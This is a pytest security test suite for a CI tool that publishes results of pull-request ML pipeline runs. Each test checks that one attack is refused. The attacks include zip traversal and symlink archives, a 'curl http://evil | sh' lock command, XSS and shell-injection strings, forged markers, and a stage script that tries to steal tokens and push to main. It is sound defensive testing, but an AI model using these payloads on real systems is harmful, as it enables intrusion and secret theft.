"""What a pull request may try: each test fails if its defence is taken away."""

import hashlib
import http.server
import json
import re
import stat
import threading
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
import yaml
from tests import seaweed
from tests.e2e.forge import BOT
from tests.e2e.world import FORK, REPOSITORY, Done, World, bucket, stored, zipped
from tests.lockgate import github

from lockgate.publishing import artifact
from lockgate.result import Verdict, read_result

pytestmark = pytest.mark.slow

LESS_NOISE = ("params.yaml", "noise: 1.0", "noise: 0.5")
MISFIT = "### ⚠️ The artifact of this run failed validation, so nothing is shown"


@pytest.fixture
def number(world: World) -> int:
    """A pull request for which ``honest`` is what an honest run leaves."""
    return world.propose("less-noise", world.edited(*LESS_NOISE))


def published(world: World, number: int, files: Any, conclusion: str = "success") -> str:
    """Publish what a run, made by the author, left; return the one comment."""
    done = world.publish_here(world.finish(number, files, conclusion))
    assert done.code == 0, done.log
    (comment,) = world.comments(number)
    return comment


def refused(world: World, number: int, files: Any) -> str:
    """Publish the same, and hold that nothing came of it but a comment that says why."""
    tips = {branch: world.forge.tip(REPOSITORY, branch) for branch in ("main", "less-noise")}
    comment = published(world, number, files)
    assert MISFIT in comment
    assert tips == {branch: world.forge.tip(REPOSITORY, branch) for branch in tips}
    assert world.status(tips["less-noise"]) == "error"
    return comment


def with_result(honest: dict[str, bytes], **changes: Any) -> dict[str, bytes]:
    return {**honest, "result.json": replace(read_result(honest["result.json"]), **changes).to_json().encode()}


def entry(name: str, content: bytes, mode: int = 0) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo(name)
        info.external_attr = mode << 16
        archive.writestr(info, content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def test_the_archive_that_an_honest_run_leaves_is_published(
    world: World, number: int, honest: dict[str, bytes]
) -> None:
    """Or the tests below would refuse for another reason than theirs: by the workflow, and here alike."""
    run = world.finish(number, honest)

    done = world.publish(run)
    (comment,) = world.comments(number)
    again = world.publish_here(run)

    assert (done.code, again.code) == (0, 0), done.log + again.log
    assert comment.startswith("### ✅")
    assert world.comments(number) == [comment]


# --- the artifact


@pytest.mark.parametrize(
    ("archive", "reason"),
    [
        (b"PK\x03\x04 no archive", "not a whole zip archive"),
        (entry("../../.github/workflows/x.yml", b"on: push"), "a file named"),
        (entry("/etc/cron.d/x", b"* * * * *"), "a file named"),
        (entry("result.json", b"/etc/passwd", stat.S_IFLNK | 0o777), "but a link"),
        (entry("result.json", b"\0" * (artifact.FILES["result.json"] + 1)), "has more than"),
        (entry("result.json", b"[" * 100_000), "this is not a"),
        (zipped({"result.json": b"{}", "comment.md": b"# approved"}), "a file named"),
        (zipped({f"{n}.json": b"{}" for n in range(500)}), "it has 500 files"),
        (bytes(artifact.LIMIT + 1), "has more than"),
    ],
    ids=["no archive", "traversal", "absolute", "link", "bomb", "nested", "extra file", "many files", "oversized"],
)
def test_an_archive_that_no_run_leaves_is_refused_and_the_comment_says_why(
    world: World, number: int, archive: bytes, reason: str
) -> None:
    assert reason in github.read(refused(world, number, archive)).text


def test_a_result_for_another_pull_request_is_refused(world: World, honest: dict[str, bytes]) -> None:
    world.propose("less-noise", world.edited("params.yaml", "noise: 1.0", "noise: 30.0"))
    number = max(world.forge.pulls)

    assert "train.noise 0.5 → 30.0" in github.read(refused(world, number, honest)).text


def test_which_pull_request_is_commented_on_is_the_events_word(
    world: World, number: int, honest: dict[str, bytes]
) -> None:
    other = world.propose("other", {"README.md": "x"})
    said = b'{"pull_request": %d, "number": %d}' % (other, other)

    refused(world, number, {**honest, "result.json": said})

    assert world.comments(other) == []


@pytest.mark.parametrize(
    "forge",
    [
        lambda result: replace(result, gates=tuple(replace(gate, passed=False) for gate in result.gates)),
        lambda result: replace(result, gates=result.gates[1:]),
        lambda result: replace(result, metrics=tuple(replace(one, head=0.999) for one in result.metrics)),
        lambda result: replace(result, metrics=tuple(replace(one, base=0.5) for one in result.metrics)),
        lambda result: replace(result, lock=replace(result.lock, status="differs", stages=("train",))),
        lambda result: replace(result, params=()),
        lambda result: replace(result, base=replace(result.base, commit="0" * 40)),
    ],
    ids=["gates fail", "gate left out", "metric", "base's metric", "lock differs", "no params", "other base"],
)
def test_a_result_that_git_or_itself_contradicts_is_refused(
    world: World, number: int, honest: dict[str, bytes], forge: Any
) -> None:
    result = read_result(honest["result.json"])
    assert result.verdict.outcome == "passed"

    refused(world, number, {**honest, "result.json": forge(result).to_json().encode()})


@pytest.mark.parametrize(
    ("edit", "reason"),
    [
        (lambda lock: lock["stages"]["train"]["params"]["params.yaml"]["train"].update(noise=0.1), "train.noise"),
        (lambda lock: lock["stages"]["train"].update(cmd="curl http://evil | sh"), "command"),
        (lambda lock: lock["stages"]["ingest"]["deps"][0].update(md5="0" * 32 + ".dir"), "source"),
        (lambda lock: lock["stages"]["train"]["outs"][0].update(path="src/train.py"), "not in both"),
        (lambda lock: lock["stages"].update(evil=lock["stages"]["train"]), "evil"),
        (lambda lock: lock["stages"]["train"].update(note="@lab/admins"), "note"),
        (lambda lock: lock["stages"].pop("evaluate"), "evaluate"),
        (lambda lock: lock.update(extra="<img src=x>"), "extra"),
    ],
    ids=["parameter", "command", "input", "path", "stage", "key", "missing stage", "top level"],
)
def test_a_lock_that_a_run_of_this_commit_cannot_write_is_not_committed(
    world: World, number: int, honest: dict[str, bytes], edit: Any, reason: str
) -> None:
    lock = yaml.safe_load(honest["dvc.lock"])
    edit(lock)

    comment = refused(world, number, {**honest, "dvc.lock": yaml.safe_dump(lock, sort_keys=False).encode()})

    assert reason in github.read(comment).text


@pytest.mark.parametrize("path", [".github/workflows/x.yml", "src/train.py", "../x.json", "reports/other.json"])
def test_a_file_that_is_no_small_output_is_not_committed(
    world: World, number: int, honest: dict[str, bytes], path: str
) -> None:
    outputs = {**json.loads(honest["outputs.json"]), path: "on: push"}

    refused(world, number, {**honest, "outputs.json": json.dumps(outputs).encode()})


# --- text


HOSTILE = "</code></pre><h1>✅ tiny passed</h1><img src=x onerror=alert(1)> @lab/admins ](/etc/passwd) | #1 `x` $(id)"


def test_no_text_of_an_author_does_anything_in_a_comment(world: World) -> None:
    branch = "x/$(touch${IFS}pwned)<b>@lab|`id`"
    policy = yaml.safe_load(world.read("lockgate.yaml"))
    policy["metrics"][HOSTILE] = {"file": "reports/metrics.json", "key": "roc_auc", "better": "higher"}
    params = yaml.safe_load(world.read("params.yaml"))
    params["train"][HOSTILE] = HOSTILE
    number = world.propose(
        branch,
        {
            "lockgate.yaml": yaml.safe_dump(policy, sort_keys=False),
            "params.yaml": yaml.safe_dump(params, sort_keys=False),
            "src/evaluate.py": f"print({HOSTILE!r})\nprint('### ✅ tiny passed')\nraise SystemExit(1)\n",
        },
    )

    run = world.check(number)
    done = world.publish(run)

    assert done.code == 0, done.log
    (comment,) = world.comments(number)
    body = comment.partition("![](https://cml.dev")[0].partition("<sub>")[0]
    seen = github.read(body)
    assert "✅ tiny passed" in seen.text
    assert not [tag for tag in seen.tags if tag.startswith(("<h1", "<img", "<a ", "<script"))]
    assert github.set_off(seen) == []
    headings = re.findall("<h[1-3]>(.*?)</h[1-3]>", github.to_html(body), re.DOTALL)
    assert headings == ["❌ tiny failed: stage evaluate failed"]
    assert not list(world.folder.rglob("pwned"))


def test_a_local_file_named_in_a_link_is_neither_linked_nor_uploaded(
    world: World, number: int, honest: dict[str, bytes]
) -> None:
    left = with_result(honest, notes=("![](/etc/passwd) [x](dvc.lock) <img src=.git/config>",))

    comment = published(world, number, left)  # the `cml` of the tests refuses to run without --publish=false

    tags = github.read(comment.partition("![](https://cml.dev")[0].partition("<sub>")[0]).tags
    assert not [tag for tag in tags if tag.startswith(("<img", "<a "))]


def test_a_forged_marker_gets_no_comment_of_ours(world: World, number: int, honest: dict[str, bytes]) -> None:
    published(world, number, honest)
    forged = f'### ✅ passed\n\n![](https://cml.dev/watermark.png#{"0" * 40} "CML watermark lockgate")'
    world.forge.add_comment(number, "mallory", forged)

    done = world.publish_here(world.finish(number, with_result(honest, verdict=Verdict("failed", "a closer look"))))

    assert done.code == 0, done.log
    ours, theirs = world.forge.comments[number]
    assert (ours["user"]["login"], theirs["user"]["login"]) == (BOT, "mallory")
    assert ours["body"].startswith("### ⚠️")
    assert theirs["body"] == forged


def test_a_marker_forged_before_our_first_comment_is_passed_over(
    world: World, number: int, honest: dict[str, bytes]
) -> None:
    forged = f'![](https://cml.dev/watermark.png#{"0" * 40} "CML watermark lockgate")'
    world.forge.add_comment(number, "mallory", forged)

    run = world.finish(number, honest)
    world.publish_here(run)
    world.publish_here(run)

    theirs, ours = world.comments(number)
    assert theirs == forged
    assert ours.startswith("### ✅")


# --- what the run believes


def test_a_policy_weakened_by_the_pull_request_does_not_judge_it(world: World) -> None:
    files = {
        **world.edited("params.yaml", "noise: 1.0", "noise: 40.0"),
        "lockgate.yaml": world.read("lockgate.yaml").replace("value: 0.6", "value: 0.1").replace("0.01}", "0.9}"),
    }
    number = world.propose("weaker", files)

    run = world.check_here(number)
    world.publish_here(run)

    (comment,) = world.comments(number)
    assert run.code == 1
    assert "### ❌ tiny failed" in comment
    assert "This pull request changes what measures it: `lockgate.yaml`" in comment
    assert "roc_auc at least 0.6 → roc_auc at least 0.1" in github.read(comment).text
    assert world.status(world.forge.tip(REPOSITORY, "weaker")) == "failure"


def md5(content: bytes) -> str:
    return hashlib.md5(content, usedforsecurity=False).hexdigest()


@pytest.mark.parametrize("code", ["A model is", "A model surely is"], ids=["inputs unchanged", "code changed"])
def test_a_lock_that_claims_a_model_never_computed_is_shown_as_different_and_corrected(world: World, code: str) -> None:
    model, source = b'{"noise": 0.0, "seed": 1.0, "rows": 3000}', world.read("src/train.py").replace("A model is", code)
    metrics = b'{"roc_auc": 0.99, "log_loss": 0.01}'
    lock = yaml.safe_load(world.read("dvc.lock"))
    train, evaluate = lock["stages"]["train"], lock["stages"]["evaluate"]
    train["deps"][1].update(md5=md5(source.encode()), size=len(source))
    for entry_of_model in (train["outs"][0], evaluate["deps"][1]):
        entry_of_model.update(md5=md5(model), size=len(model))
    next(out for out in evaluate["outs"] if out["path"] == "reports/metrics.json").update(md5=md5(metrics), size=35)
    bucket(world.store).put(f"quarantine/files/md5/{md5(model)[:2]}/{md5(model)[2:]}", model)
    bucket(world.store).put(f"quarantine/runs/ab/{'ab' * 32}/{'cd' * 32}", yaml.safe_dump(train).encode())
    files = {"dvc.lock": yaml.safe_dump(lock, sort_keys=False), "reports/metrics.json": metrics, "src/train.py": source}
    number = world.propose("claims", {**files, "README.md": "a better model"})

    run = world.check_here(number)
    world.publish_here(run)

    assert run.code == 1, run.log
    assert world.result(run).lock.status == "differs"
    assert "train" in world.result(run).lock.stages
    (comment,) = world.comments(number)
    assert "### ❌" in comment
    assert "The author's lock differs" in github.read(comment).text
    assert "0.99" not in comment
    tip = world.forge.tip(REPOSITORY, "claims")
    assert world.status(tip) == "failure"
    assert md5(model) not in world.read("dvc.lock", "claims")
    assert "0.99" not in world.read("reports/metrics.json", "claims")


@pytest.mark.parametrize("path", [".dvc/config.local", ".dvc/cache/runs/ab/abc/def", ".dvc/cache/files/md5/ab/cdef"])
def test_a_cache_or_configuration_in_git_stops_the_run(world: World, path: str) -> None:
    number = world.propose("planted", {**world.edited(*LESS_NOISE), path: "[core]\n"})

    run = world.check_here(number)
    world.publish_here(run)

    assert run.code == 1
    assert f"git tracks {path}" in github.read(world.comments(number)[0]).text


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """A server of the attacker's: its address, and what was asked of it."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_HEAD = do_PUT = do_POST = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
        server.shutdown()


def test_a_remote_pointed_elsewhere_is_not_used_and_the_change_is_told(
    world: World, elsewhere: tuple[str, list[str]]
) -> None:
    address, asked = elsewhere
    number = world.propose(
        "remote", {**world.edited(*LESS_NOISE), **world.edited(".dvc/config", world.store.endpoint, address)}
    )

    run = world.check_here(number)
    world.publish_here(run)

    assert run.code == 0, run.log
    assert asked == []
    assert "changes what measures it: `.dvc/config`" in world.comments(number)[0]


THIEF = """\
import os, subprocess, sys
from obstore.store import S3Store
store = S3Store("lab", endpoint={endpoint!r}, region="us-east-1", client_options={{"allow_http": True}})
for path in {paths!r}:
    try:
        store.put(path, b"mine")
    except Exception as error:
        print("refused:", type(error).__name__)
    else:
        print("taken:", path)
done = subprocess.run(["git", "push", "origin", "HEAD:main"], capture_output=True, text=True)
print("pushed" if done.returncode == 0 else "no push")
print({{name for name in os.environ if "TOKEN" in name}} or "no token")
print(os.environ)
raise SystemExit(1)
"""


def test_a_run_can_write_neither_the_trusted_store_nor_the_repository_and_its_keys_are_not_published(
    world: World,
) -> None:
    trusted = [path for path in stored(world.store) if path.startswith("trusted/")]
    paths = [*trusted[:2], "trusted/runs/ab/abcd/ef"]
    before, main = stored(world.store), world.forge.tip(REPOSITORY, "main")
    code = THIEF.format(endpoint=world.store.endpoint, paths=paths)
    number = world.propose("thief", {"src/train.py": code})

    run = world.check(number)
    world.publish(run)

    assert stored(world.store) == before
    assert world.forge.tip(REPOSITORY, "main") == main
    (comment,) = world.comments(number)
    log = world.result(run).execution.log  # type: ignore[union-attr]
    assert log.count("refused: ") == 3
    assert "taken: " not in log
    assert "no push" in log
    assert "no token" in log
    assert "AWS_SECRET_ACCESS_KEY" not in log  # a stage has no key of the store at all
    secret = seaweed.secret("pull-request").encode()
    assert secret not in world.forge.artifacts[run.id]["lockgate"]
    assert not any(secret in content for content in world.left(run).values())
    assert secret.decode() not in comment


def test_the_trusted_half_runs_nothing_that_a_pull_request_brings(
    world: World, honest: dict[str, bytes], tmp_path: Path
) -> None:
    mark = tmp_path / "ran"
    python = f"open({str(mark)!r}, 'a').write(__file__)\n"
    action = world.read(".github/actions/setup/action.yml") + f"    - {{shell: bash, run: touch {mark}}}\n"
    step = f"      - run: touch {mark}\n"
    number = world.propose(
        "less-noise",
        {
            **world.edited(*LESS_NOISE),
            "sitecustomize.py": python,
            "conftest.py": python,
            "lockgate/__init__.py": python,
            "yaml.py": python,
            "cml": f"#!/bin/sh\ntouch {mark}\n",
            ".github/actions/setup/action.yml": action,
            ".github/workflows/publish.yml": world.read(".github/workflows/publish.yml") + step,
            ".gitattributes": "* filter=x diff=x merge=x\n",
            "Makefile": f".venv/run .venv/publish:\n\t@touch {mark}\n",
        },
    )

    done = world.publish(world.finish(number, honest), environment={"PYTHONSAFEPATH": ""})

    assert done.code == 0, done.log
    assert not mark.exists()
    warning = world.comments(number)[0].partition("\n\n")[0]
    assert "changes what measures it: " in warning
    assert "`.github/actions/setup/action.yml`" in warning


def test_a_workflow_of_the_same_name_is_not_published(world: World, number: int, honest: dict[str, bytes]) -> None:
    run = world.finish(number, honest)
    event = {**run.event, "workflow_run": {**run.event["workflow_run"], "path": ".github/workflows/mine.yml"}}

    done = world.publish_here(Done(run.id, 0, "", event))

    assert done.code == 0
    assert "nothing to publish: .github/workflows/mine.yml" in done.log
    assert world.comments(number) == []


def test_a_fork_cannot_have_a_branch_of_ours_written_by_naming_its_own_the_same(
    world: World, number: int, honest: dict[str, bytes]
) -> None:
    head = world.forge.tip(REPOSITORY, "less-noise")
    fork = world.propose("less-noise", world.edited(*LESS_NOISE), fork=True)

    world.publish_here(world.finish(fork, honest))

    assert world.forge.tip(REPOSITORY, "less-noise") == head
    assert world.comments(number) == []
    assert "git apply" in world.comments(fork)[0]
    assert world.forge.tip(FORK, "less-noise") == world.forge.pull(fork)["head"]["sha"]


def test_a_run_of_an_older_commit_of_a_fork_is_not_shown_for_the_newer_one(
    world: World, honest: dict[str, bytes]
) -> None:
    fork = world.propose("less-noise", world.edited(*LESS_NOISE), fork=True)
    run = world.finish(fork, honest)
    world.push(FORK, "less-noise", {"src/train.py": "raise SystemExit(1)\n"})

    done = world.publish_here(run)

    assert done.code == 0
    assert "the branch has moved on" in done.log
    assert world.comments(fork) == []
    assert world.forge.statuses == {}
